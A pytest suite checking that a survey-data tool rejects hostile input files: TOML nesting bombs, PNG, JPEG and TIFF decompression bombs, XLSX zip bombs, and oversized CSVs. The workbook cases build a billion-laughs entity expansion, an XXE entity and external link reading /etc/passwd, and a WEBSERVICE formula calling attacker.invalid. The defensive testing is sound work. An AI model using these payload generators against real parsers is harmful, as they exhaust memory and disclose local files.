"""Small files that become huge, deep or endless when they are opened: refused soon, in little memory."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

from flatscan.sources.survey import read_survey

from .running import refused


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


TOML_BOMBS = {
    "deep lists": b"a = " + b"[" * 100_000,
    "deep tables": b"a = " + b"{b=" * 50_000,
    "dotted key": b".".join([b"a"] * 100_000) + b" = 1",
    "dotted heading": b"[" + b".".join([b"a"] * 100_000) + b"]",
    "quoted dotted key": b".".join([b'"a"'] * 50_000) + b" = 1",
    "huge key": b"k" * 900_000 + b" = 1",
    "huge number": b"a = 1" + b"0" * 900_000,
    "huge text": b'[place]\nname = "' + b"x" * 900_000 + b'"',
    "many keys": b"[place]\n" + b"".join(b"k%d = 1\n" % k for k in range(20_000)),
    "many sections": b"[[door]]\n" * 30_000,
    "many strange sections": b"".join(b"[a.b%d]\n" % k for k in range(20_000)),
    "open text": b'a = """' + b"\n" * 900_000,
}


@pytest.mark.parametrize("name", TOML_BOMBS)
def test_toml_bombs(here: Path, name: str) -> None:
    """A parser that takes the square of what it is given stops the machine with a small file."""
    (here / "bomb.toml").write_bytes(TOML_BOMBS[name])
    (here / "cloud.csv").write_text("x", encoding="utf-8")
    refused("survey", "check", "bomb.toml")
    refused("limits", "bomb.toml")
    refused("check", "cloud.csv", "--product", "bomb.toml")


def png(width: int, height: int, rows: int = 1) -> bytes:
    """A PNG that declares so many pixels and holds so few rows of them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    text = b"Comment\0\0" + zlib.compress(b"x" * 100_000_000, 9)
    pixels = zlib.compress(bytes(min(width, 100_000) + 1) * rows, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"zTXt", text)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int) -> bytes:
    """A JPEG whose head declares so many pixels."""
    from PIL import Image

    stream = io.BytesIO()
    Image.new("RGB", (16, 16)).save(stream, "JPEG")
    data = bytearray(stream.getvalue())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


@pytest.mark.parametrize("data", [png(60_000, 60_000), png(2**31 - 1, 1), jpeg(65_000, 65_000), png(6000, 6000, 6001)])
def test_picture_bombs(here: Path, data: bytes) -> None:
    """A picture of some kB that unpacks to gigabytes."""
    (here / "a.jpg").write_bytes(data)
    (here / "survey.toml").write_text('[[photo]]\nfile = "a.jpg"', encoding="utf-8")
    refused("survey", "check", "survey.toml")
    frame = {"transform_matrix": np.eye(4).tolist(), "depth_file_path": "a.jpg"}
    top = {"fl_x": 40.0, "fl_y": 40.0, "cx": 25.0, "cy": 20.0, "w": 50, "h": 40, "frames": [frame]}
    frames = here / "frames"
    frames.mkdir()
    (frames / "transforms.json").write_text(json.dumps(top), encoding="utf-8")
    (frames / "a.jpg").write_bytes(data)
    refused("check", "frames")
    (frames / "depth.png").write_bytes(data)
    (frames / "camera.txt").write_text("40 40 25 20 50 40\n", encoding="utf-8")
    refused("check", "frames/depth.png")


def test_a_large_photo_stays_within_bounds(here: Path) -> None:
    """What a phone takes must be read, in memory that a site laptop has."""
    from PIL import Image

    from .running import peak_mb

    Image.new("RGB", (12_000, 9_000), (90, 90, 90)).save(here / "a.jpg", quality=30)
    (here / "survey.toml").write_text('[[photo]]\nfile = "a.jpg"', encoding="utf-8")
    before = peak_mb(reset=True)
    (photo,) = read_survey(here / "survey.toml").site.photos
    assert peak_mb() - before < 250
    assert len(photo.jpeg) < 300_000


def test_a_depth_image_that_unpacks_to_more_than_it_says(here: Path) -> None:
    """A strip of a TIFF may inflate without end, whatever size the head declares."""
    import tifffile

    with tifffile.TiffWriter(here / "depth.tif") as tiff:
        tiff.write(np.full((40, 50), 1500, np.uint16), compression="zlib", photometric="minisblack")
    data = bytearray((here / "depth.tif").read_bytes())
    with tifffile.TiffFile(here / "depth.tif") as tiff:
        page = tiff.pages.first
        offset, count = page.tags["StripOffsets"].valueoffset, page.tags["StripByteCounts"].valueoffset
    bomb = zlib.compress(bytes(600_000_000), 1)
    data[offset : offset + 4], data[count : count + 4] = struct.pack("<I", len(data)), struct.pack("<I", len(bomb))
    (here / "depth.tif").write_bytes(bytes(data) + bomb)
    (here / "camera.txt").write_text("40 40 25 20 50 40\n", encoding="utf-8")
    refused("check", "depth.tif", within_s=20)


def xlsx(path: Path, sheet: bytes, more: dict[str, bytes] | None = None) -> None:
    """A workbook of one sheet, its XML as given, with a link to a file of the reader."""
    import openpyxl

    stream = io.BytesIO()
    openpyxl.Workbook().save(stream)
    link = b'<Relationship Id="far" Type="externalLink" Target="file:///etc/passwd" TargetMode="External"/>'
    link += b"</Relationships>"
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name).replace(b"</Relationships>", link) if "workbook.xml.rels" in name else old.read(name)
            new.writestr(name, sheet if name.endswith("sheet1.xml") else data)
        for name, data in (more or {}).items():
            new.writestr(name, data)


def sheet_of(cells: bytes, dimension: bytes = b"A1:C3", head: bytes = b"") -> bytes:
    return (
        head
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="'
        + dimension
        + b'"/><sheetData>'
        + cells
        + b"</sheetData></worksheet>"
    )


def inline(place: str, text: str) -> bytes:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


HEADER = (
    b'<row r="1">'
    + inline("A1", "what")
    + inline("B1", "x_m")
    + inline("C1", "y_m")
    + inline("D1", "value_mm")
    + b"</row>"
)
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + b"x" * 1000
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + k, b"&%c;" % (97 + k) * 10) for k in range(8))
    + b"]>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SHEETS = {
    "huge dimension": sheet_of(HEADER, b"A1:XFD1048576"),
    "the last row and column": sheet_of(HEADER + b'<row r="1048576">' + inline("XFD1048576", "x") + b"</row>"),
    "a row far beyond": sheet_of(HEADER + b'<row r="2000000000">' + inline("A2000000000", "lip") + b"</row>"),
    "a column far beyond": sheet_of(HEADER + b'<row r="2">' + inline("ZZZZZZ2", "lip") + b"</row>"),
    "a billion laughs": sheet_of(HEADER + b'<row r="2">' + inline("A2", "&i;") + b"</row>", head=ENTITIES),
    "a file from outside": sheet_of(HEADER + b'<row r="2">' + inline("A2", "&a;") + b"</row>", head=OUTSIDE),
    "many cells": sheet_of(
        HEADER + b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (k, k) for k in range(2, 400_000))
    ),
    "no end": sheet_of(HEADER)[:-40],
    "a formula": sheet_of(
        HEADER + b'<row r="2"><c r="A2"><f>WEBSERVICE("http://attacker.invalid")</f><v>lip</v></c></row>'
    ),
}


@pytest.mark.parametrize("kind", SHEETS)
def test_workbook_bombs(here: Path, kind: str) -> None:
    """A workbook is XML in a zip: both have their bombs, and links that lead to files of the reader."""
    xlsx(here / "readings.xlsx", SHEETS[kind])
    said = refused("check", "readings.xlsx", within_s=30, most_mb=400)
    assert "root:" not in said


def test_a_workbook_that_unpacks_to_gigabytes(here: Path) -> None:
    """Told by its list before anything is unpacked."""
    xlsx(here / "readings.xlsx", sheet_of(HEADER), {"xl/media/a.bin": bytes(200_000_000)})
    refused("check", "readings.xlsx", most_mb=100)


@pytest.mark.parametrize(
    "text",
    [
        ",".join(["what", "x_m", "y_m", *(f"c{k}" for k in range(300_000))]) + "\n",
        ",".join(["what", "x_m", "y_m", "value_mm"]) + "\n" + "," * 1_000_000,
        "what,x_m,y_m,value_mm\n" + "lip,1,1,2\n" * 2 + '"' + "x" * 5_000_000,
        "what,x_m,y_m,value_mm\n" + "lip," + "9" * 100_000 + ",1,2\n",
        "what,x_m,y_m,value_mm\n" + "lip,1e999,1,2\n",
        "what,x_m,y_m," + ",".join(f"{k * 0.01:.2f} m" for k in range(20_000)) + "\nstraightedge,1,1\n",
        "x,y,z\n" + "9" * 3_000_000,
        "# room: " + "1 x " * 200_000 + "\nwhat,x_m,y_m,value_mm\nlip,1,1,2\n",
    ],
    ids=["columns", "commas", "open quote", "long number", "infinite", "stations", "one number", "room line"],
)
def test_table_bombs(here: Path, text: str) -> None:
    """A table of hundreds of thousands of columns, a cell without end."""
    (here / "readings.csv").write_text(text, encoding="utf-8")
    refused("check", "readings.csv", within_s=20, most_mb=600)
